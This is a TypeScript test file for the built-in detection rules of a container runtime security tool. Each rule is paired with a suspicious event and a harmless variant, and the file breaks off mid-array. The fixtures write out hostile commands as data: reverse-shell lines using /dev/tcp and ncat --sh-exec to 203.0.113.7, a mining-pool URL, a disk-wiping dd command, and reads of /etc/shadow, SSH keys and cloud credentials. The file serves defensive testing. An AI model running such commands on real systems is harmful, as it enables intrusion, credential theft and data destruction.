import { readFileSync } from "node:fs";
import path from "node:path";
import { type EventType, type FieldValue, priorities } from "@pratique/core";
import { describe, expect, it } from "vitest";
import { builtinRuleFiles, hardenedRuleFile } from "./builtin.ts";
import { loadRules } from "./compile/load-rules.ts";
import type { RuleSet } from "./compile/rule-set.ts";
import { compileRules, type RuleEngine } from "./engine/compile-rules.ts";
import { analyseForKernel } from "./kernel/analyse-for-kernel.ts";
import { TestCatalog, type TestEvent, typeOf } from "./testdata/event.ts";

type Fields = Readonly<Record<string, FieldValue>>;

/** A process of an image, in a container, that nobody has a word against. */
const ordinary: Fields = {
  "evt.num": 5,
  "evt.rawres": 0,
  "evt.res": "SUCCESS",
  "container.id": "0123456789ab",
  "container.image.repository": "app",
  "proc.name": "app",
  "proc.exe": "app",
  "proc.args": "",
  "proc.cmdline": "app",
  "proc.cwd": "/",
  "proc.exepath": "/usr/bin/app",
  "proc.pname": "app",
  "proc.pexepath": "/usr/bin/app",
  "proc.vpid": 7,
  "proc.pvpid": 1,
  "proc.tty": 0,
  "proc.is_exe_upper_layer": false,
  "proc.is_exe_lower_layer": true,
  "proc.is_exe_from_memfd": false,
  "user.uid": 0,
};

const host: Fields = { "container.id": "host" };
/** The runtime, before it becomes the container's first process. */
const setup: Fields = {
  "proc.name": "runc:[2:INIT]",
  "proc.exepath": "/memfd:runc_cloned:/proc/self/exe (deleted)",
  "proc.pexepath": "/usr/bin/runc",
  "proc.is_exe_lower_layer": false,
};
const byPackageManager: Fields = {
  "proc.aexepath": "/usr/bin/dpkg",
  "pratique.image.aexepath": "/usr/bin/dpkg",
};

function file(name: string, fields: Fields = {}): Fields {
  const slash = name.lastIndexOf("/");
  return {
    "fd.name": name,
    "fd.nameraw": name,
    "fd.directory": name.slice(0, slash) || "/",
    "fd.filename": name.slice(slash + 1),
    "fd.typechar": "f",
    "fd.num": 3,
    "evt.rawres": 3,
    ...fields,
  };
}

const reading = (name: string): Fields =>
  file(name, { "evt.is_open_read": true, "evt.is_open_write": false });
const writing = (name: string): Fields =>
  file(name, { "evt.is_open_read": false, "evt.is_open_write": true, "evt.arg.flags": "O_WRONLY|O_CREAT" });
const clearing = (name: string): Fields => ({ ...writing(name), "evt.arg.flags": "O_TRUNC|O_WRONLY" });

function program(name: string, args = "", fields: Fields = {}): Fields {
  const cmdline = args === "" ? name : `${name} ${args}`;
  return {
    "proc.name": name,
    "proc.exe": name,
    "proc.exepath": `/usr/bin/${name}`,
    "pratique.image.aexepath[0]": `/usr/bin/${name}`,
    "proc.args": args,
    "proc.cmdline": cmdline,
    ...fields,
  };
}

const child = (name: string, parent: string, args = ""): Fields => ({
  ...program(name, args),
  "proc.pname": parent,
  "proc.pexepath": `/usr/sbin/${parent}`,
});

function connection(address: string, port: number): Fields {
  return {
    "fd.typechar": address.includes(":") ? "6" : "4",
    "fd.l4proto": "tcp",
    "fd.sip": address,
    "fd.snet": address,
    "fd.sport": port,
    "fd.num": 4,
    "fd.name": `10.0.0.2:40000->${address}:${port}`,
  };
}

const busyboxServes: Fields = {
  ...connection("203.0.113.7", 80),
  "proc.exepath": "/bin/busybox",
  "evt.rawres": 0,
};

const unixSocket = (name: string): Fields => ({ "fd.typechar": "u", "fd.name": name, "fd.num": 4 });
const dropped: Fields = { "proc.is_exe_upper_layer": true, "proc.exepath": "/tmp/x" };

/** The rule, what it speaks of, and the same but for what makes it harmless. */
const cases: readonly (readonly [rule: string, type: EventType, fields: Fields, harmless: Fields])[] = [
  [
    "Cgroup hierarchy mounted in container",
    "mount",
    { "evt.arg.type": "cgroup" },
    { "evt.arg.type": "tmpfs" },
  ],
  [
    "Release agent of a cgroup written",
    "openat",
    writing("/tmp/c/release_agent"),
    reading("/tmp/c/release_agent"),
  ],
  [
    "Process moved to another cgroup",
    "openat",
    writing("/sys/fs/cgroup/unified/cgroup.procs"),
    program("runc"),
  ],
  [
    "Loader of programs started by hand",
    "execve",
    program("ld-linux-x86-64.so.2", "/tmp/x"),
    program("ld-linux-x86-64.so.2", "--verify /usr/bin/app"),
  ],
  ["Secret moved", "rename", { "evt.arg.oldpath": "/etc/shadow" }, { "evt.arg.oldpath": "/etc/shadow+" }],
  [
    "Library preloaded into a program",
    "execve",
    { "proc.env[LD_PRELOAD]": "/tmp/x.so" },
    { "proc.env[LD_PRELOAD]": "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2" },
  ],
  [
    "Engine socket reached by another name",
    "connect",
    { ...unixSocket("/tmp/innocent"), "pratique.fd.resolved": "/run/docker.sock" },
    { "pratique.fd.resolved": "/tmp/innocent" },
  ],
  [
    "User and cgroup namespaces made together",
    "unshare",
    { "evt.arg.flags": "CLONE_NEWCGROUP|CLONE_NEWUSER" },
    { "evt.arg.flags": "CLONE_NEWUSER" },
  ],
  [
    "User namespace made in container",
    "clone3",
    { "evt.arg.flags": "CLONE_NEWUSER" },
    { "proc.exepath": "/usr/lib/chromium/chromium" },
  ],
  [
    "Program that the kernel runs replaced",
    "openat",
    writing("/proc/sys/kernel/core_pattern"),
    reading("/proc/sys/kernel/core_pattern"),
  ],
  [
    "Control or memory of the kernel opened in container",
    "openat",
    reading("/proc/kcore"),
    { "evt.res": "ENOENT" },
  ],
  [
    "Setting of the kernel changed in container",
    "openat",
    writing("/proc/sys/vm/swappiness"),
    writing("/proc/sys/net/core/somaxconn"),
  ],
  ["Disk of the host opened in container", "openat", reading("/dev/sda1"), reading("/dev/stdout")],
  [
    "Node of a disk made in container",
    "mknodat",
    { "evt.rawarg.mode": 0o060_600 },
    { "evt.rawarg.mode": 0o010_600 },
  ],
  ["Disk mounted in container", "mount", { "evt.arg.dev": "/dev/vda1" }, { "evt.arg.dev": "/dev/pts" }],
  ["File system mounted in container", "move_mount", {}, setup],
  ["Devices of a cgroup allowed", "openat", writing("/c/devices.allow"), reading("/c/devices.list")],
  ["Engine socket used by container", "connect", unixSocket("/run/docker.sock"), unixSocket("/run/app.sock")],
  [
    "Socket of containerd's shim used by container",
    "connect",
    unixSocket("@/containerd-shim/x.sock"),
    unixSocket("@/dbus"),
  ],
  ["Namespace entered in container", "setns", { "evt.arg.nstype": "CLONE_NEWNS" }, setup],
  [
    "Files of another process reached in container",
    "openat",
    reading("/proc/1/root/etc/hostname"),
    reading("/proc/31/root/tmp/.java_pid31"),
  ],
  ["File opened by handle in container", "open_by_handle_at", reading("/x"), host],
  ["Running program opened for writing", "openat", writing("/proc/self/fd/7"), writing("/proc/self/fd/1")],
  [
    "Directory entered by a descriptor",
    "chdir",
    { "evt.arg.path": "/proc/self/fd/8" },
    { "evt.arg.path": "/srv" },
  ],
  [
    "Program started outside of the root of its container",
    "execve",
    { "proc.cwd": "(unreachable)/root/" },
    { "proc.cwd": "/root/" },
  ],
  [
    "Device replaced by a link",
    "symlinkat",
    { "evt.arg.linkpath": "/dev/null" },
    { "evt.arg.linkpath": "/dev/fd" },
  ],
  ["Kernel module loaded or removed in container", "init_module", {}, host],
  [
    "BPF program loaded in container",
    "bpf",
    { "evt.arg.cmd": "BPF_PROG_LOAD" },
    { "evt.arg.cmd": "BPF_MAP_CREATE" },
  ],
  ["Performance events opened in container", "perf_event_open", { "evt.rawres": 3 }, { "evt.rawres": -1 }],
  ["Page faults handled by a user", "userfaultfd", { "user.uid": 1000 }, { "user.uid": 0 }],
  ["Ring of io_uring set up in container", "io_uring_setup", { "evt.rawres": 3 }, { "evt.rawres": -1 }],
  ["Keyring used in container", "keyctl", {}, { "proc.name": "sshd", "proc.exepath": "/usr/sbin/sshd" }],
  [
    "Process traced by another",
    "ptrace",
    { "evt.arg.request": "PTRACE_ATTACH" },
    { "evt.arg.request": "PTRACE_CONT" },
  ],
  ["Memory of another process written", "openat", writing("/proc/31/mem"), writing("/proc/self/mem")],
  [
    "Memory of another process read",
    "process_vm_readv",
    { "evt.rawres": 8 },
    { "proc.exepath": "/usr/bin/gdb" },
  ],
  ["Descriptor taken from another process", "pidfd_getfd", {}, host],
  [
    "Process keeps debuggers away",
    "ptrace",
    { "evt.arg.request": "PTRACE_TRACEME" },
    { "proc.exepath": "/usr/bin/strace" },
  ],
  ["Program in memory executed", "execveat", { "proc.is_exe_from_memfd": true }, setup],
  [
    "Program in shared memory executed",
    "execve",
    { "proc.exepath": "/dev/shm/x" },
    { "proc.exepath": "/dev/shmx/x" },
  ],
  [
    "Deleted program executed",
    "execve",
    { "proc.exepath": "/tmp/x (deleted)" },
    { "proc.exepath": "/tmp/x" },
  ],
  [
    "Miner started",
    "execve",
    program("worker", "-o stratum+tcp://203.0.113.7:3333"),
    program("worker", "-o out.txt"),
  ],
  [
    "Shell told to open a connection",
    "execve",
    program("bash", "-c exec 3<>/dev/tcp/203.0.113.7/80"),
    program("bash", "-c exec 3<>/dev/tcp/localhost/80"),
  ],
  [
    "Program handed to a connection",
    "execve",
    program("ncat", "203.0.113.7 1 --sh-exec sh"),
    program("ncat", "-z 203.0.113.7 1"),
  ],
  ["Program that is not in the image executed", "execve", dropped, { ...dropped, ...byPackageManager }],
  [
    "Shell started by a server",
    "execve",
    child("sh", "nginx", "-c id"),
    child("sh", "php-fpm", "-c /usr/sbin/sendmail -t -i"),
  ],
  ["Tool started by a server", "execve", child("curl", "nginx"), child("curl", "app")],
  [
    "Interactive shell in container",
    "execve",
    program("bash", "", { "proc.tty": 34_816 }),
    program("bash", "-c true", { "proc.tty": 0 }),
  ],
  [
    "Standard streams of a process are a connection",
    "dup2",
    connection("203.0.113.7", 4444),
    { "fd.typechar": "f" },
  ],
  [
    "File in memory made",
    "memfd_create",
    { "evt.arg.name": "x", "evt.rawres": 3 },
    { "evt.arg.name": "doublemapper" },
  ],
  [
    "Package manager started in container",
    "execve",
    { ...child("apt-get", "bash", "install nmap"), "proc.pvpid": 20 },
    { "proc.vpid": 1 },
  ],
  ["Network tool started in container", "execve", program("nmap"), program("nmapper")],
  ["Remote copy started in container", "execve", program("scp"), { "proc.vpid": 1 }],
  ["Client of an engine or a cluster started in container", "execve", program("kubectl"), { "proc.vpid": 1 }],
  [
    "Bit of set-user-ID set",
    "fchmodat",
    { "evt.arg.mode": "S_ISUID|S_IXUSR" },
    { "evt.arg.mode": "S_ISGID|S_IXUSR" },
  ],
  [
    "Capabilities of an administrator taken",
    "capset",
    { "evt.arg.cap_effective": "CAP_CHOWN CAP_SYS_ADMIN" },
    setup,
  ],
  [
    "Loader told twice at once",
    "execve",
    { "proc.env[GLIBC_TUNABLES]": "glibc.malloc.mxfast=glibc.malloc.mxfast=A" },
    { "proc.env[GLIBC_TUNABLES]": "glibc.malloc.check=3" },
  ],
  [
    "pkexec started without arguments",
    "execve",
    program("pkexec", "", { "user.uid": 1000 }),
    program("pkexec", "id", { "user.uid": 1000 }),
  ],
  [
    "sudoedit started with a backslash at the end",
    "execve",
    program("sudoedit", "-s \\"),
    program("sudoedit", "-s /etc/hosts"),
  ],
  ["Password hashes read", "openat", reading("/etc/shadow"), { "proc.exepath": "/usr/sbin/sshd" }],
  ["Rules of sudo read", "openat", reading("/etc/sudoers.d/app"), { "proc.exepath": "/usr/bin/sudo" }],
  [
    "Private key of SSH read",
    "openat",
    reading("/home/app/.ssh/id_ed25519"),
    reading("/home/app/.ssh/id_ed25519.pub"),
  ],
  [
    "Credentials of a cloud or a registry read",
    "openat",
    reading("/root/.aws/credentials"),
    { "proc.exepath": "/usr/local/bin/aws" },
  ],
  [
    "Token of a service account read",
    "openat",
    reading("/run/secrets/kubernetes.io/serviceaccount/token"),
    { "proc.vpid": 1 },
  ],
  ["Environment of a process read", "openat", reading("/proc/1/environ"), reading("/proc/self/environ")],
  [
    "Search for keys or passwords",
    "execve",
    program("find", "/ -name id_rsa"),
    program("find", "/ -name nginx.conf"),
  ],
  ["Honeyfile opened", "openat", reading("/etc/pratique-canary"), { "evt.res": "ENOENT" }],
  ["Cron job written", "creat", writing("/etc/cron.d/x"), byPackageManager],
  [
    "Start of the system changed",
    "renameat2",
    { "evt.arg.newpath": "/etc/systemd/system/x.service" },
    { "evt.arg.newpath": "/etc/systemd/x" },
  ],
  ["Start of a shell changed", "openat", writing("/root/.bashrc"), reading("/root/.bashrc")],
  ["Authorized keys changed", "openat", writing("/root/.ssh/authorized_keys"), { "proc.vpid": 1 }],
  ["Loader of programs changed", "openat", writing("/etc/ld.so.preload"), writing("/etc/ld.so.cache")],
  ["Accounts or rights changed", "openat", writing("/etc/passwd"), { "proc.exepath": "/usr/sbin/useradd" }],
  ["Directory of programs changed", "openat", writing("/usr/bin/x"), writing("/usr/local/bin/x")],
  [
    "Symbolic link to a secret made",
    "symlink",
    { "evt.arg.target": "/etc/shadow" },
    { "evt.arg.target": "/etc/localtime" },
  ],
  [
    "Hard link to a secret made",
    "linkat",
    { "evt.arg.oldpath": "/etc/shadow" },
    { "proc.exepath": "/usr/sbin/useradd" },
  ],
  [
    "Port of an engine or a cluster contacted",
    "connect",
    connection("10.0.0.5", 2375),
    connection("127.0.0.1", 2379),
  ],
  [
    "Metadata of the cloud asked for",
    "connect",
    connection("169.254.169.254", 80),
    connection("169.254.1.1", 80),
  ],
  [
    "Port of a mining pool contacted",
    "connect",
    connection("203.0.113.7", 3333),
    connection("10.0.0.5", 3333),
  ],
  [
    "Packet socket opened in container",
    "socket",
    { "evt.arg.domain": "AF_PACKET" },
    { "proc.exepath": "/usr/sbin/keepalived" },
  ],
  [
    "Raw socket opened in container",
    "socket",
    { "evt.arg.domain": "AF_INET", "evt.arg.type": "3" },
    { "proc.exepath": "/usr/bin/ping" },
  ],
  [
    "Log of the system cleared",
    "openat",
    clearing("/var/log/auth.log"),
    { "proc.exepath": "/usr/sbin/logrotate" },
  ],
  [
    "History of a shell removed",
    "unlinkat",
    { "evt.arg.name": "/root/.bash_history" },
    { "evt.arg.name": "/root/history" },
  ],
  [
    "Data destroyed by a tool",
    "execve",
    program("dd", "if=/dev/zero of=/dev/sda"),
    program("dd", "if=/dev/zero of=/tmp/file"),
  ],
  [
    "Hidden program executed",
    "execve",
    { "proc.exepath": "/tmp/.x/run" },
    { "proc.exepath": "/home/app/.local/bin/run" },
  ],
  [
    "Process named like a thread of the kernel",
    "execve",
    { "proc.name": "[kworker]" },
    { "proc.name": "worker" },
  ],
  [
    "Protection of this host taken away",
    "execve",
    { ...host, ...program("systemctl", "stop pratique") },
    { ...host, ...program("systemctl", "status pratique") },
  ],
  [
    "Files of Pratique changed from a container",
    "openat",
    writing("/host/var/lib/pratique/policies/a.yaml"),
    reading("/host/var/lib/pratique/policies/a.yaml"),
  ],
  [
    "Secret read by another name",
    "openat",
    { ...reading("/tmp/x"), "pratique.fd.resolved": "/etc/shadow" },
    { "pratique.fd.resolved": "/etc/passwd" },
  ],
  [
    "Place of persistence written by another name",
    "openat",
    { ...writing("/tmp/x"), "pratique.fd.resolved": "/etc/crontab" },
    { "pratique.fd.resolved": "/tmp/y" },
  ],
  [
    "Program that the kernel runs replaced by another name",
    "openat",
    { ...writing("/proc/self/fd/3"), "pratique.fd.resolved": "/proc/sys/kernel/core_pattern" },
    { "pratique.fd.resolved": "/tmp/core_pattern.txt" },
  ],
  [
    "Block device opened by another name",
    "openat",
    { ...reading("/tmp/x"), "pratique.fd.kind": "block" },
    { "pratique.fd.kind": "char" },
  ],
  [
    "Removed program executed",
    "execve",
    { "pratique.exe.unlinked": true },
    { "pratique.exe.unlinked": false },
  ],
  [
    "Program on a file system in memory executed",
    "execve",
    { "pratique.exe.tmpfs": true, "proc.exepath": "/run/x" },
    { "pratique.exe.tmpfs": false },
  ],
  [
    "Program that was mounted into the container executed",
    "execve",
    { "pratique.exe.mounted": true, "pratique.exe.tmpfs": false, "proc.exepath": "/data/x" },
    { "proc.exepath": "/sbin/docker-init", "proc.vpid": 1 },
  ],
  [
    "Script from a place for temporary files run",
    "execve",
    { "pratique.script.path": "/tmp/x.sh" },
    { "pratique.script.path": "/usr/bin/x" },
  ],
  [
    "Program with set-user-ID that is not in the image executed",
    "execve",
    { ...dropped, "pratique.exe.setuid": true },
    { "proc.is_exe_upper_layer": false },
  ],
  [
    "User became root",
    "setuid",
    { "pratique.uid.before": 1000, "user.uid": 0 },
    { "pratique.uid.before": 0 },
  ],
  ["Times of a program set", "utimensat", { "evt.arg.path": "/usr/bin/ls" }, { "evt.arg.path": "/srv/ls" }],
  [
    "Long name asked for",
    "dns",
    { "evt.arg.name": `${"a".repeat(60)}.${"b".repeat(60)}.example.com` },
    { "evt.arg.name": "example.com" },
  ],
  [
    "Name of a mining pool asked for",
    "dns",
    { "evt.arg.name": "gulf.moneroocean.stream" },
    { "evt.arg.name": "notmoneroocean.stream" },
  ],
  [
    "Sensor of this host signalled",
    "kill",
    { "pratique.target.exepath": "/opt/pratique/pratique-sensor" },
    { ...host, ...program("node") },
  ],
  ["Hardened: program that is not in the image", "execve", dropped, { "proc.is_exe_upper_layer": false }],
  [
    "Hardened: program in shared memory",
    "execve",
    { "proc.exepath": "/dev/shm/x" },
    { "proc.exepath": "/srv/x" },
  ],
  ["Hardened: program in memory", "execve", { "proc.is_exe_from_memfd": true }, setup],
  [
    "Hardened: program that was mounted",
    "execve",
    { "pratique.exe.mounted": true, "proc.exepath": "/data/x" },
    { "pratique.exe.mounted": false },
  ],
  [
    "Hardened: program that the kernel runs",
    "openat",
    writing("/proc/sys/kernel/modprobe"),
    reading("/proc/sys/kernel/modprobe"),
  ],
  ["Hardened: engine socket", "connect", unixSocket("/run/docker.sock"), unixSocket("/run/app.sock")],
  ["Hardened: disk of the host", "openat", reading("/dev/nvme0n1"), reading("/dev/null")],
  [
    "Hardened: metadata of the cloud",
    "connect",
    connection("fd00:ec2::254", 80),
    connection("fd00:ec2::1", 80),
  ],
];

/** What containers do all day: no rule may say a word. */
const daily: readonly (readonly [what: string, type: EventType, fields: Fields])[] = [
  ["nginx reads its configuration", "openat", { ...program("nginx"), ...reading("/etc/nginx/nginx.conf") }],
  [
    "a package manager runs a script at the terminal that it makes",
    "execve",
    { ...program("preinst"), "proc.exepath": "/usr/bin/dash", "proc.tty": 34_816, ...byPackageManager },
  ],
  [
    "the scripts of a package look for certificates",
    "execve",
    { ...program("find", "/etc/ssl/certs -type l -name *.pem"), ...byPackageManager },
  ],
  [
    "systemctl looks for the root of the first process",
    "openat",
    { ...program("systemctl"), ...reading("/proc/1/root") },
  ],
  ["a job writes to the container's log", "openat", { ...program("sh"), ...writing("/proc/1/fd/1") }],
  [
    "a log is linked to the container's",
    "symlink",
    { "evt.arg.target": "/proc/1/fd/2", "evt.arg.linkpath": "/var/log/app.log" },
  ],
  [
    "a script of an image links its own descriptors",
    "symlink",
    { "evt.arg.target": "/proc/self/fd", "evt.arg.linkpath": "/dev/fd" },
  ],
  ["nginx writes its log", "openat", { ...program("nginx"), ...writing("/var/log/nginx/access.log") }],
  ["nginx logs to its standard output", "openat", { ...program("nginx"), ...writing("/proc/self/fd/1") }],
  ["nginx starts by its script", "execve", { ...child("nginx", "docker-entrypoi"), "proc.vpid": 1 }],
  [
    "the engine's own first process starts, which is mounted",
    "execve",
    {
      ...program("docker-init"),
      "proc.exepath": "/usr/sbin/docker-init",
      "proc.vpid": 1,
      "pratique.exe.mounted": true,
    },
  ],
  ["a server looks up an account", "openat", reading("/etc/passwd")],
  [
    "sshd looks up a password",
    "openat",
    { ...program("sshd"), "proc.exepath": "/usr/sbin/sshd", ...reading("/etc/shadow") },
  ],
  [
    "busybox signs somebody in",
    "openat",
    { ...program("login"), "proc.exepath": "/bin/busybox", ...reading("/etc/shadow") },
  ],
  [
    "cron starts a job",
    "execve",
    { ...child("sh", "cron", "-c /usr/bin/backup"), "proc.pexepath": "/usr/sbin/cron" },
  ],
  ["cron reads its jobs", "openat", { ...program("cron"), ...reading("/etc/cron.d/app") }],
  ["initdb starts the database through a shell", "execve", child("sh", "initdb", "-c postgres --boot")],
  ["the database archives its log", "execve", child("sh", "postgres", "-c wal-g wal-push x")],
  ["the database forks", "clone", { ...program("postgres"), "evt.arg.flags": "CLONE_CHILD_CLEARTID" }],
  ["the database asks which languages there are", "execve", child("sh", "postgres", "-c -- locale -a")],
  [
    "sshd hands a connection to its session",
    "dup2",
    {
      ...program("sshd-session"),
      "proc.exepath": "/usr/lib/openssh/sshd-session",
      ...connection("10.0.0.5", 40_022),
    },
  ],
  [
    "a server takes its own user back",
    "setresuid",
    { "evt.arg.ruid": "-1", "evt.arg.euid": "root", "pratique.uid.before": 33, "user.uid": 0 },
  ],
  [
    "apt asks dpkg",
    "execve",
    { ...child("dpkg", "apt-config"), "proc.pvpid": 20, "proc.aexepath": "/usr/bin/apt-config" },
  ],
  [
    "a script of a package reads the environment of the first process",
    "openat",
    { ...program("systemd-machine-id-setup"), ...byPackageManager, ...reading("/proc/1/environ") },
  ],
  ["a health check runs", "execve", { ...program("sh", "-c curl -f http://localhost/"), ...noParent() }],
  ["the health check fetches", "execve", child("curl", "sh", "-f http://localhost/")],
  ["a health check asks a port", "execve", program("bash", "-c </dev/tcp/127.0.0.1/5432")],
  ["logrotate turns a log over", "openat", { ...program("logrotate"), ...clearing("/var/log/syslog") }],
  ["apt installs", "execve", { ...program("apt-get", "install -y curl"), "proc.vpid": 1 }],
  [
    "apt installs within a step of a build",
    "execve",
    { ...child("apt-get", "sh", "install"), "proc.pexepath": "/bin/sh" },
  ],
  ["dpkg unpacks a program", "openat", { ...program("dpkg"), ...writing("/usr/bin/curl") }],
  ["dpkg puts a program in place", "rename", { ...program("dpkg"), "evt.arg.newpath": "/usr/bin/curl" }],
  ["dpkg sets the bit of set-user-ID", "fchmodat", { ...program("dpkg"), "evt.arg.mode": "S_ISUID" }],
  [
    "a script of a package adds a user",
    "openat",
    { ...program("useradd"), ...byPackageManager, ...writing("/etc/passwd") },
  ],
  [
    "a start script enters its user",
    "openat",
    { ...program("sh"), "proc.vpid": 1, ...writing("/etc/passwd") },
  ],
  ["busybox answers as a web server", "dup2", { ...busyboxServes, "proc.exe": "httpd" }],
  [
    "busybox answers as a web server, by its own name",
    "dup2",
    { ...busyboxServes, "proc.exe": "busybox", "proc.args[0]": "httpd" },
  ],
  ["the runtime mounts", "mount", { ...setup, "evt.arg.type": "proc", "evt.arg.dev": "proc" }],
  ["the runtime enters namespaces", "setns", setup],
  ["the runtime makes devices", "mknodat", { ...setup, "evt.rawarg.mode": 0o020_666 }],
  ["the runtime writes a setting", "openat", { ...setup, ...writing("/proc/sys/kernel/domainname") }],
  ["a program asks for its own name", "dns", { "evt.arg.name": "database.example.internal" }],
  ["a program connects to a database", "connect", connection("10.0.0.5", 5432)],
  ["a program connects to a website", "connect", connection("203.0.113.7", 443)],
  ["a program speaks to its own socket", "connect", unixSocket("/run/postgresql/.s.PGSQL.5432")],
  ["ping pings", "socket", { ...program("ping"), "evt.arg.domain": "AF_INET", "evt.arg.type": "3" }],
  ["a tool of a user's home runs", "execve", { "proc.exepath": "/home/app/.local/bin/tool" }],
  ["Java attaches to Java", "openat", reading("/proc/31/root/tmp/.java_pid31")],
  ["a browser builds its sandbox", "clone", { ...program("chromium"), "evt.arg.flags": "CLONE_NEWUSER" }],
  ["a process of the host mounts", "mount", { ...host, "evt.arg.type": "ext4", "evt.arg.dev": "/dev/sda1" }],
  [
    "the engine of the host speaks to containerd",
    "connect",
    { ...host, ...unixSocket("/run/containerd/containerd.sock") },
  ],
];

function noParent(): Fields {
  return {
    "proc.pname": "containerd-shim",
    "proc.pexepath": "/usr/bin/containerd-shim-runc-v2",
    "proc.pvpid": 0,
  };
}

const ruleSet = loaded();

describe("the default rules", () => {
  it("are the same text in files and in code", () => {
    for (const { name, text } of [...builtinRuleFiles, hardenedRuleFile]) {
      expect(text).toBe(readFileSync(path.join(import.meta.dirname, "../builtin", name), "utf8"));
    }
  });

  it("are each tried below", () => {
    expect(cases.map(([rule]) => rule).toSorted()).toEqual(ruleSet.rules.map(({ name }) => name).toSorted());
  });

  it("act in no file but the hardened one", () => {
    const acting = ruleSet.rules.filter(({ action }) => action !== undefined).map(({ name }) => name);
    expect(acting.every((name) => name.startsWith("Hardened: "))).toBe(true);
    expect(acting).toHaveLength(8);
  });

  it("act by what the kernel can decide, but where it cannot tell the runtime", () => {
    const acting = ruleSet.rules.filter(({ action }) => action !== undefined);
    const undecided = acting.filter((rule) => !analyseForKernel(rule).decidable).map(({ name }) => name);
    expect(undecided).toEqual(["Hardened: program in memory", "Hardened: program that was mounted"]);
  });

  it("are listed in the reference, whose examples load", () => {
    const page = readFileSync(
      path.join(import.meta.dirname, "../../../docs/reference/default-rules.md"),
      "utf8",
    );
    const named = ruleSet.rules.map(({ name }) => name).filter((name) => page.includes(`| ${name} |`));
    expect(named).toEqual(ruleSet.rules.map(({ name }) => name));
    const example = /^```yaml\n(?<text>.*?)^```$/msu.exec(page)?.groups?.text ?? "";
    const result = loadRules([...builtinRuleFiles, { name: "example.yaml", text: example }]);
    expect(result).toMatchObject({ kind: "rules", warnings: [] });
  });

  it("name a tactic and a technique each", () => {
    for (const { name, tags } of ruleSet.rules) {
      expect([name, tags.some((tag) => tag.startsWith("mitre_"))]).toEqual([name, true]);
      expect([name, tags.some((tag) => /^T\d{4}(?:\.\d{3})?$/u.test(tag))]).toEqual([name, true]);
    }
  });

  it.each(cases)("%s: speaks, and is silent on what is like it", (rule, type, fields, harmless) => {
    const engine = engineOf((name) => name === rule);
    expect(rulesOf(engine, type, fields)).toEqual([rule]);
    expect(rulesOf(engine, type, { ...fields, ...harmless })).toEqual([]);
  });

  it.each<readonly [string, Fields]>([
    ["a tool that builds", { "proc.aexepath": "/usr/bin/make" }],
    [
      "the script that the container was started with",
      { "proc.pvpid": 1, "proc.pname": "sh", "proc.tty": 0 },
    ],
  ])("say nothing of a mounted program that runs for %s", (_, fields) => {
    const engine = engineOf((name) => name === "Program that was mounted into the container executed");
    const dropped = {
      "pratique.exe.mounted": true,
      "pratique.exe.tmpfs": false,
      "proc.exepath": "/src/test",
    };
    expect(rulesOf(engine, "execve", dropped)).toHaveLength(1);
    expect(rulesOf(engine, "execve", { ...dropped, ...fields })).toEqual([]);
  });

  const cron = "/etc/cron.d/job";
  it.each<readonly [string, string, EventType, Fields]>([
    ["a hard link", "Cron job written", "linkat", { "evt.arg.newpath": cron }],
    [
      "a symbolic link",
      "Cron job written",
      "symlink",
      { "evt.arg.linkpath": cron, "evt.arg.target": "/tmp/x" },
    ],
    [
      "an exchange of two names",
      "Cron job written",
      "renameat2",
      { "evt.arg.oldpath": cron, "evt.arg.newpath": "/tmp/x", "evt.arg.flags": "RENAME_EXCHANGE" },
    ],
    [
      "a busybox that calls itself by the name of another part",
      "Password hashes read",
      "openat",
      {
        ...reading("/etc/shadow"),
        ...program("passwd", "/etc/shadow"),
        "proc.exe": "cat",
        "proc.exepath": "/bin/busybox",
      },
    ],
    [
      "a part of busybox that is named by its argument",
      "Network tool started in container",
      "execve",
      { ...program("busybox", "nc 203.0.113.7 4444"), "proc.args[0]": "nc" },
    ],
    [
      "a part of busybox that its shell started",
      "Network tool started in container",
      "execve",
      { ...program("nc", "203.0.113.7 4444"), "proc.name": "exe", "proc.exepath": "/usr/bin/busybox" },
    ],
    [
      "a copying part of toybox",
      "Remote copy started in container",
      "execve",
      { ...program("toybox", "/bin/tftp -g"), "proc.args[0]": "/bin/tftp" },
    ],
    [
      "a tool that is part of busybox",
      "Tool started by a server",
      "execve",
      { ...child("busybox", "nginx", "wget http://203.0.113.7/x"), "proc.args[0]": "wget" },
    ],
    [
      "a shell that is part of busybox",
      "Interactive shell in container",
      "execve",
      { ...program("busybox", "sh"), "proc.args[0]": "sh", "proc.tty": 34_816 },
    ],
    [
      "a library within a program that is trusted",
      "Password hashes read",
      "openat",
      { ...reading("/etc/shadow"), ...program("passwd"), "proc.env[LD_PRELOAD]": "/tmp/x.so" },
    ],
    [
      "a library found before that of the image",
      "Library preloaded into a program",
      "execve",
      { ...program("passwd"), "proc.env[LD_LIBRARY_PATH]": "/usr/lib:/tmp/x" },
    ],
    [
      "a program by the name of a package manager that the image does not have",
      "Program that is not in the image executed",
      "execve",
      { ...dropped, "proc.exepath": "/usr/sbin/apk", "proc.aexepath": "/usr/bin/microdnf" },
    ],
    [
      "a program on a volume by the name of one that may read secrets",
      "Password hashes read",
      "openat",
      { ...reading("/etc/shadow"), ...program("login"), "pratique.exe.mounted": true },
    ],
    [
      "a Python that is not of the image",
      "Program that is not in the image executed",
      "execve",
      { ...dropped, "proc.pname": "dnf", "proc.pexepath": "/usr/bin/python3x" },
    ],
    [
      "a parent that calls itself a package manager",
      "Program that is not in the image executed",
      "execve",
      { ...dropped, "proc.pname": "dnf", "proc.aname": "dnf" },
    ],
    [
      "moving a log away",
      "Log of the system cleared",
      "rename",
      { "evt.arg.oldpath": "/var/log/auth.log", "evt.arg.newpath": "/tmp/x" },
    ],
    [
      "the calls that came after mount, of a disk",
      "Disk mounted in container",
      "fsopen",
      { "evt.arg.type": "ext4", "evt.rawres": 3 },
    ],
    [
      "the calls that came after mount, of cgroups",
      "Cgroup hierarchy mounted in container",
      "fsopen",
      { "evt.arg.type": "cgroup2", "evt.rawres": 3 },
    ],
    [
      "going below the root of another process",
      "Files of another process reached in container",
      "chdir",
      { "evt.arg.path": "/proc/31/root" },
    ],
    [
      "taking the root of another process",
      "Files of another process reached in container",
      "chroot",
      { "evt.arg.path": "/proc/31/root/srv" },
    ],
    [
      "a link to the directory of another process",
      "Files of another process reached in container",
      "symlink",
      { "evt.arg.target": "/proc/31", "evt.arg.linkpath": "/tmp/x" },
    ],
    [
      "a descriptor of the root of another process",
      "Files of another process reached in container",
      "openat",
      { ...reading("/proc/1/root"), "evt.arg.flags": "O_PATH" },
    ],
    [
      "a mount of the directory of settings",
      "Program that the kernel runs replaced",
      "openat",
      writing("/mnt/core_pattern"),
    ],
    [
